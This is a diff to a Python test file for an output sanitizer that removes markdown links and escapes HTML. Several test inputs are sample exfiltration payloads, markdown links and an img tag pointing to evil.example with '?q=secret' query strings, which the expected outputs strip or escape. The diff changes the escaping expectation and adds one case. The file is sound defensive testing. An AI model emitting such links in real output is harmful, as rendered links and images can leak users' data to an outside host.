@@ -262,7 +262,8 @@ def test_output_pii(text, action, expected, blocked):
     ('see [the docs](https://evil.example/?q=secret "title") now', "see the docs [link removed] now", ["link"]),
     ("[ref]: https://evil.example/?q=secret\n[ok][ref]", "[ref]: [link removed]\n[ok][ref]", ["reference"]),
     ("[section](#setup) and ![logo](img/logo.png)", "[section](#setup) and ![logo](img/logo.png)", []),
-    ('<img src="https://evil.example/?q=x">', '&lt;img src="https://evil.example/?q=x"&gt;', ["html"]),
+    ('<img src="https://evil.example/?q=x">', '&lt;img src="https://evil.example/?q=x">', ["html"]),
+    ("a < b & <b>bold</b>", "a < b & &lt;b>bold&lt;/b>", ["html", "html"]),
     ('{"answer": "Press A & B together; 3 < 5"}', '{"answer": "Press A & B together; 3 < 5"}', []),
 ])
 def test_markup_escaping(text, expected, done):
